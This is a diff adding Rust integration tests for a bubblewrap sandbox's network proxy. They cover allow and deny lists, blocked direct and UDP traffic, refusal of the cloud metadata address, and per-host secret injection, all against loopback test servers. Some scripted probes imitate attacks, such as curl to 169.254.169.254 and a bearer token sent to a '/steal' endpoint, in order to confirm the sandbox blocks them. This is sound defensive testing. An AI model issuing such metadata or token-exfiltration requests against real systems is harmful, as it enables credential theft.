@@ -1,0 +1,531 @@
+//! The sandbox's network allow-list (issue 32), with real servers on this
+//! machine's loopback and a real bubblewrap sandbox: the sandbox keeps its
+//! own network namespace and reaches the servers only through the runtime's
+//! proxy, which maps test names to 127.0.0.1 through its `hosts` table.
+//! Tests skip (pass with a note) where bubblewrap cannot run.
+
+use std::collections::BTreeMap;
+use std::io::{BufRead, BufReader, Read, Write};
+use std::net::{TcpListener, UdpSocket};
+use std::path::{Path, PathBuf};
+use std::sync::atomic::{AtomicUsize, Ordering};
+use std::sync::{Arc, Mutex};
+use std::time::Duration;
+
+use hermes_exec::netproxy::{NetEvents, NetProxy, Refusal, Rules, Secret};
+use hermes_exec::pump::{PumpOpts, pump};
+use hermes_exec::sandbox::{Sandbox, SandboxConfig};
+use hermes_exec::{Environment, SpawnRequest};
+
+fn bwrap_works() -> bool {
+    hermes_exec::sandbox::find_bwrap().is_some_and(|b| {
+        std::process::Command::new(b)
+            .args([
+                "--ro-bind",
+                "/",
+                "/",
+                "--unshare-user",
+                "--unshare-net",
+                "--",
+                "/bin/true",
+            ])
+            .status()
+            .is_ok_and(|s| s.success())
+    })
+}
+
+macro_rules! need_bwrap {
+    () => {
+        if !bwrap_works() {
+            eprintln!("skipped: bubblewrap cannot run here");
+            return;
+        }
+    };
+}
+
+struct Workspace(PathBuf);
+
+impl Workspace {
+    fn new(tag: &str) -> Workspace {
+        let p = std::env::temp_dir().join(format!(
+            "hermes-net-{tag}-{}-{}",
+            std::process::id(),
+            std::time::SystemTime::now()
+                .duration_since(std::time::UNIX_EPOCH)
+                .unwrap()
+                .subsec_nanos()
+        ));
+        std::fs::create_dir_all(&p).unwrap();
+        Workspace(std::fs::canonicalize(&p).unwrap())
+    }
+}
+
+impl Drop for Workspace {
+    fn drop(&mut self) {
+        let _ = std::fs::remove_dir_all(&self.0);
+    }
+}
+
+/// A test HTTP server on 127.0.0.1: answers every request with
+/// `hello from NAME`, then the request head it received; counts requests.
+struct Server {
+    port: u16,
+    hits: Arc<AtomicUsize>,
+}
+
+fn server(name: &'static str) -> Server {
+    let l = TcpListener::bind("127.0.0.1:0").unwrap();
+    let port = l.local_addr().unwrap().port();
+    let hits = Arc::new(AtomicUsize::new(0));
+    let h = hits.clone();
+    std::thread::spawn(move || {
+        for c in l.incoming() {
+            let Ok(mut c) = c else { continue };
+            let h = h.clone();
+            std::thread::spawn(move || {
+                let mut r = BufReader::new(c.try_clone().unwrap());
+                let mut head = String::new();
+                loop {
+                    let mut line = String::new();
+                    if r.read_line(&mut line).unwrap_or(0) == 0 || line == "\r\n" {
+                        break;
+                    }
+                    head.push_str(&line);
+                }
+                h.fetch_add(1, Ordering::SeqCst);
+                let body = format!("hello from {name}\n{head}");
+                let _ = write!(
+                    c,
+                    "HTTP/1.1 200 OK\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
+                    body.len()
+                );
+            });
+        }
+    });
+    Server { port, hits }
+}
+
+#[derive(Default)]
+struct Events(Mutex<Vec<Refusal>>);
+
+impl NetEvents for Events {
+    fn refused(&self, r: &Refusal) {
+        self.0.lock().unwrap().push(r.clone());
+    }
+}
+
+fn rules(allow: &[&str], deny: &[&str], names: &[&str]) -> Rules {
+    let v = |xs: &[&str]| xs.iter().map(|s| s.to_string()).collect::<Vec<_>>();
+    let hosts: BTreeMap<String, Vec<String>> = names
+        .iter()
+        .map(|n| (n.to_string(), vec!["127.0.0.1".to_string()]))
+        .collect();
+    Rules::new(&v(allow), &v(deny), false, &hosts).unwrap()
+}
+
+fn sandbox(ws: &Workspace, proxy: Arc<NetProxy>) -> Sandbox {
+    Sandbox::new(&SandboxConfig {
+        root: ws.0.clone(),
+        proxy: Some(proxy),
+        ..SandboxConfig::default()
+    })
+    .expect("sandbox")
+}
+
+/// Run `script` in the sandbox: exit code and output.
+fn run(sb: &Sandbox, script: &str) -> (i32, String) {
+    let env: Vec<(String, String)> = vec![
+        ("PATH".into(), "/usr/local/bin:/usr/bin:/bin".into()),
+        ("HOME".into(), "/nonexistent-home".into()),
+        ("LANG".into(), "C".into()),
+    ];
+    let req = SpawnRequest {
+        script,
+        cwd: sb.root(),
+        env: &env,
+        pty: false,
+        extra_rw: &[],
+        task: "",
+        linger: false,
+    };
+    let sp = sb.spawn(&req).expect("spawn");
+    let opts = PumpOpts {
+        timeout: Some(Duration::from_secs(120)),
+        ..PumpOpts::default()
+    };
+    let mut out = Vec::new();
+    let (code, _) = pump(sp.pid, &sp.output, sb, &opts, &mut |d| {
+        out.extend_from_slice(d)
+    });
+    (code, String::from_utf8_lossy(&out).into_owned())
+}
+
+#[test]
+fn an_allowed_name_is_reached_through_the_proxy() {
+    need_bwrap!();
+    let ws = Workspace::new("allowed");
+    let s = server("allowed");
+    let proxy = NetProxy::start(
+        rules(&["allowed.test"], &[], &["allowed.test"]),
+        vec![],
+        None,
+    )
+    .unwrap();
+    let sb = sandbox(&ws, proxy);
+    let p = s.port;
+    // Plain HTTP (HTTP_PROXY), a CONNECT tunnel (as HTTPS goes), SOCKS5.
+    let (code, out) = run(
+        &sb,
+        &format!(
+            "curl -sS http://allowed.test:{p}/plain && curl -sS -p http://allowed.test:{p}/tunnel && curl -sS --proxy \"$ALL_PROXY\" http://allowed.test:{p}/socks && echo \"proxy=$HTTPS_PROXY\""
+        ),
+    );
+    assert_eq!(code, 0, "{out}");
+    for path in [
+        "GET /plain HTTP/1.1",
+        "GET /tunnel HTTP/1.1",
+        "GET /socks HTTP/1.1",
+    ] {
+        assert!(out.contains(path), "{path} missing: {out}");
+    }
+    assert_eq!(out.matches("hello from allowed").count(), 3, "{out}");
+    assert!(out.contains("proxy=http://127.0.0.1:3128"), "{out}");
+    assert_eq!(s.hits.load(Ordering::SeqCst), 3);
+}
+
+#[test]
+fn a_denied_or_unlisted_name_is_refused_naming_host_and_rule() {
+    need_bwrap!();
+    let ws = Workspace::new("denied");
+    let s = server("denied");
+    let ev = Arc::new(Events::default());
+    let proxy = NetProxy::start(
+        rules(
+            &["*.test"],
+            &["denied.test"],
+            &["denied.test", "other.example"],
+        ),
+        vec![],
+        Some(ev.clone()),
+    )
+    .unwrap();
+    let sb = sandbox(&ws, proxy);
+    let p = s.port;
+    let (_, out) = run(
+        &sb,
+        &format!(
+            "curl -sS http://denied.test:{p}/; echo; curl -sS -p http://other.example:{p}/ 2>&1; echo; curl -sS -o /dev/null -w '%{{http_code}}\\n' -p http://other.example:{p}/; curl -sS --proxy \"$ALL_PROXY\" http://denied.test:{p}/ 2>&1"
+        ),
+    );
+    assert!(
+        out.contains("connection to denied.test:")
+            && out.contains("(deny:denied.test): denied.test matches the deny rule 'denied.test'"),
+        "{out}"
+    );
+    // A client that shows only the status line still learns why.
+    assert!(out.contains("403"), "{out}");
+    assert!(out.contains("SOCKS") || out.contains("socks"), "{out}");
+    assert_eq!(
+        s.hits.load(Ordering::SeqCst),
+        0,
+        "the server was reached: {out}"
+    );
+    let ev = ev.0.lock().unwrap();
+    let rules: Vec<&str> = ev.iter().map(|r| r.rule.as_str()).collect();
+    assert_eq!(
+        rules,
+        [
+            "deny:denied.test",
+            "not-allowed",
+            "not-allowed",
+            "deny:denied.test"
+        ],
+        "{ev:?}"
+    );
+    assert_eq!(ev[1].host, "other.example");
+}
+
+#[test]
+fn a_direct_connection_has_no_route_and_udp_and_raw_sockets_go_nowhere() {
+    need_bwrap!();
+    let ws = Workspace::new("direct");
+    let s = server("direct");
+    let udp = UdpSocket::bind("127.0.0.1:0").unwrap();
+    udp.set_read_timeout(Some(Duration::from_millis(1500)))
+        .unwrap();
+    let uport = udp.local_addr().unwrap().port();
+    let proxy = NetProxy::start(
+        rules(&["allowed.test"], &[], &["allowed.test"]),
+        vec![],
+        None,
+    )
+    .unwrap();
+    let sb = sandbox(&ws, proxy);
+    let p = s.port;
+    let script = format!(
+        r#"curl -sS --noproxy '*' --max-time 5 http://127.0.0.1:{p}/ 2>&1; echo "curl-direct=$?"
+/usr/bin/python3 - <<'EOF'
+import socket, errno
+def tcp(addr):
+    s = socket.socket()
+    s.settimeout(3)
+    try:
+        s.connect(addr); return "connected"
+    except OSError as e:
+        return errno.errorcode.get(e.errno, str(e))
+print("tcp-public", tcp(("93.184.216.34", 80)))
+print("tcp-metadata", tcp(("169.254.169.254", 80)))
+print("tcp-host-loopback", tcp(("127.0.0.1", {p})))
+u = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
+for a in [("127.0.0.1", {uport}), ("8.8.8.8", 53)]:
+    try:
+        u.sendto(b"leak", a); print("udp", a[0], "sent")
+    except OSError as e:
+        print("udp", a[0], errno.errorcode.get(e.errno, str(e)))
+try:
+    socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_ICMP); print("raw opened")
+except OSError as e:
+    print("raw", errno.errorcode.get(e.errno, str(e)))
+try:
+    socket.socket(socket.AF_PACKET, socket.SOCK_RAW); print("packet opened")
+except OSError as e:
+    print("packet", errno.errorcode.get(e.errno, str(e)))
+EOF"#
+    );
+    let (code, out) = run(&sb, &script);
+    assert_eq!(code, 0, "{out}");
+    assert!(!out.contains("curl-direct=0"), "{out}");
+    assert!(out.contains("tcp-public ENETUNREACH"), "{out}");
+    assert!(out.contains("tcp-metadata ENETUNREACH"), "{out}");
+    // The sandbox's loopback is its own: the host's server is not there.
+    assert!(out.contains("tcp-host-loopback ECONNREFUSED"), "{out}");
+    assert!(out.contains("udp 8.8.8.8 ENETUNREACH"), "{out}");
+    assert!(
+        out.contains("raw EPERM") && out.contains("packet EPERM"),
+        "{out}"
+    );
+    let mut b = [0u8; 16];
+    assert!(
+        udp.recv_from(&mut b).is_err(),
+        "a UDP datagram left the sandbox"
+    );
+    assert_eq!(s.hits.load(Ordering::SeqCst), 0);
+}
+
+#[test]
+fn the_metadata_address_and_private_answers_are_refused() {
+    need_bwrap!();
+    let ws = Workspace::new("metadata");
+    let ev = Arc::new(Events::default());
+    // `localhost` is allowed by name but resolves (system resolver) to
+    // loopback: refused all the same; an address literal needs a range.
+    let proxy = NetProxy::start(
+        rules(&["localhost", "*.amazonaws.com"], &[], &[]),
+        vec![],
+        Some(ev.clone()),
+    )
+    .unwrap();
+    let sb = sandbox(&ws, proxy);
+    let (_, out) = run(
+        &sb,
+        "curl -sS http://169.254.169.254/latest/meta-data/; echo; curl -sS -p http://169.254.169.254:80/; echo; NO_PROXY= no_proxy= curl -sS http://localhost:9/; echo; curl -sS 'http://[fd00:ec2::254]/latest/'",
+    );
+    assert!(
+        out.contains("connection to 169.254.169.254:80 refused (not-allowed)"),
+        "{out}"
+    );
+    assert!(
+        out.contains("connection to localhost:9 refused (private-address)")
+            && out.contains("a loopback address"),
+        "{out}"
+    );
+    let ev = ev.0.lock().unwrap();
+    let rules: Vec<&str> = ev.iter().map(|r| r.rule.as_str()).collect();
+    assert_eq!(
+        rules,
+        ["not-allowed", "not-allowed", "private-address", "not-allowed"],
+        "{ev:?}"
+    );
+}
+
+#[test]
+fn a_secret_is_put_in_place_for_its_host_only() {
+    need_bwrap!();
+    let ws = Workspace::new("secret");
+    let api = server("api");
+    let other = server("other");
+    let ev = Arc::new(Events::default());
+    let real = "sk-real-value-9f8e7d";
+    let secret = Secret::new(
+        "API_TOKEN",
+        real.into(),
+        &["api.test".to_string()],
+        vec!["HERMES_TEST_REAL_TOKEN".into()],
+    )
+    .unwrap();
+    let placeholder = secret.placeholder.clone();
+    let proxy = NetProxy::start(
+        rules(
+            &["api.test", "other.test"],
+            &[],
+            &["api.test", "other.test"],
+        ),
+        vec![secret],
+        Some(ev.clone()),
+    )
+    .unwrap();
+    let sb = sandbox(&ws, proxy);
+    let (a, o) = (api.port, other.port);
+    let (_, out) = run(
+        &sb,
+        &format!(
+            r#"echo "seen=$API_TOKEN"; env | grep -c sk-real || true
+curl -sS -H "Authorization: Bearer $API_TOKEN" http://api.test:{a}/v1; echo
+curl -sS -H "X-Key: $API_TOKEN" http://other.test:{o}/steal; echo
+curl -sS -p -H "X-Key: $API_TOKEN" http://other.test:{o}/tunnel"#
+        ),
+    );
+    assert!(out.contains(&format!("seen={placeholder}")), "{out}");
+    assert!(
+        out.starts_with(&format!("seen={placeholder}\n0\n")),
+        "{out}"
+    );
+    // The allowed host got the value.
+    assert!(
+        out.contains(&format!("Authorization: Bearer {real}")),
+        "{out}"
+    );
+    // Another host: refused, naming the secret; the server saw nothing.
+    assert!(out.contains("refused (secret:API_TOKEN)"), "{out}");
+    // Inside a tunnel the proxy sees nothing: the placeholder goes as it is.
+    assert!(out.contains(&format!("X-Key: {placeholder}")), "{out}");
+    assert_eq!(out.matches(real).count(), 1, "{out}");
+    assert_eq!(api.hits.load(Ordering::SeqCst), 1);
+    assert_eq!(
+        other.hits.load(Ordering::SeqCst),
+        1,
+        "only the tunnel reached it"
+    );
+    let ev = ev.0.lock().unwrap();
+    assert_eq!(ev.len(), 1, "{ev:?}");
+    assert_eq!(ev[0].rule, "secret:API_TOKEN");
+    assert!(!format!("{ev:?}").contains(real));
+}
+
+/// A wheel of package `hermes-probe` 1.0 (built by hand: a zip with the
+/// module and its dist-info), and a PEP 503 simple index for it.
+fn write_index(root: &Path) {
+    let script = r#"
+import base64, hashlib, os, sys, zipfile
+root = sys.argv[1]
+pkg = os.path.join(root, "simple", "hermes-probe")
+os.makedirs(pkg)
+name = "hermes_probe-1.0-py3-none-any.whl"
+files = {
+    "hermes_probe.py": b"VALUE = 42\n",
+    "hermes_probe-1.0.dist-info/METADATA": b"Metadata-Version: 2.1\nName: hermes-probe\nVersion: 1.0\n",
+    "hermes_probe-1.0.dist-info/WHEEL": b"Wheel-Version: 1.0\nGenerator: hand\nRoot-Is-Purelib: true\nTag: py3-none-any\n",
+}
+def h(b):
+    return "sha256=" + base64.urlsafe_b64encode(hashlib.sha256(b).digest()).rstrip(b"=").decode()
+record = "".join(f"{k},{h(v)},{len(v)}\n" for k, v in files.items()) + "hermes_probe-1.0.dist-info/RECORD,,\n"
+path = os.path.join(pkg, name)
+with zipfile.ZipFile(path, "w") as z:
+    for k, v in files.items():
+        z.writestr(k, v)
+    z.writestr("hermes_probe-1.0.dist-info/RECORD", record)
+digest = hashlib.sha256(open(path, "rb").read()).hexdigest()
+open(os.path.join(pkg, "index.html"), "w").write(
+    f'<html><body><a href="{name}#sha256={digest}">{name}</a></body></html>\n')
+open(os.path.join(root, "simple", "index.html"), "w").write(
+    '<html><body><a href="hermes-probe/">hermes-probe</a></body></html>\n')
+"#;
+    let st = std::process::Command::new("/usr/bin/python3")
+        .args(["-c", script])
+        .arg(root)
+        .status()
+        .unwrap();
+    assert!(st.success());
+}
+
+/// A port free now on 127.0.0.1.
+fn free_port() -> u16 {
+    TcpListener::bind("127.0.0.1:0")
+        .unwrap()
+        .local_addr()
+        .unwrap()
+        .port()
+}
+
+struct Child(std::process::Child);
+impl Drop for Child {
+    fn drop(&mut self) {
+        let _ = self.0.kill();
+        let _ = self.0.wait();
+    }
+}
+
+#[test]
+fn pip_downloads_from_an_allowed_index() {
+    need_bwrap!();
+    let have_pip = std::process::Command::new("/usr/bin/python3")
+        .args(["-m", "pip", "--version"])
+        .output()
+        .is_ok_and(|o| o.status.success());
+    if !have_pip {
+        eprintln!("skipped: no pip for /usr/bin/python3");
+        return;
+    }
+    let ws = Workspace::new("pip");
+    let index = ws.0.join("index");
+    std::fs::create_dir_all(&index).unwrap();
+    write_index(&index);
+    let port = free_port();
+    let mut child = Child(
+        std::process::Command::new("/usr/bin/python3")
+            .args(["-m", "http.server", "--bind", "127.0.0.1", "--directory"])
+            .arg(&index)
+            .arg(port.to_string())
+            .stdout(std::process::Stdio::null())
+            .stderr(std::process::Stdio::null())
+            .spawn()
+            .unwrap(),
+    );
+    // Wait for the index to answer.
+    let mut up = false;
+    for _ in 0..100 {
+        if let Ok(mut c) = std::net::TcpStream::connect(("127.0.0.1", port)) {
+            let _ = c.write_all(b"GET /simple/ HTTP/1.0\r\n\r\n");
+            let mut s = String::new();
+            let _ = c.read_to_string(&mut s);
+            if s.contains("hermes-probe") {
+                up = true;
+                break;
+            }
+        }
+        if let Ok(Some(_)) = child.0.try_wait() {
+            break;
+        }
+        std::thread::sleep(Duration::from_millis(100));
+    }
+    assert!(up, "the test index did not start");
+    let proxy = NetProxy::start(rules(&["pypi.test"], &[], &["pypi.test"]), vec![], None).unwrap();
+    let sb = sandbox(&ws, proxy);
+    let (code, out) = run(
+        &sb,
+        &format!(
+            "PIP_NO_CACHE_DIR=1 PIP_DISABLE_PIP_VERSION_CHECK=1 /usr/bin/python3 -m pip download --no-deps --index-url http://pypi.test:{port}/simple/ --trusted-host pypi.test hermes-probe -d dl 2>&1 && ls dl && \
+             /usr/bin/python3 -m pip download --no-deps --index-url http://elsewhere.test:{port}/simple/ --trusted-host elsewhere.test hermes-probe -d dl2 --retries 0 --timeout 5 -vvv 2>&1 | grep -i -e 403 -e forbid; echo pip2=${{PIPESTATUS[0]}}"
+        ),
+    );
+    assert_eq!(code, 0, "{out}");
+    assert!(out.contains("hermes_probe-1.0-py3-none-any.whl"), "{out}");
+    assert!(ws.0.join("dl/hermes_probe-1.0-py3-none-any.whl").is_file());
+    assert!(out.contains("pip2=1"), "{out}");
+    assert!(
+        out.contains(
+            "403 Client Error: Forbidden by sandbox network policy: elsewhere.test (not-allowed)"
+        ),
+        "{out}"
+    );
+}
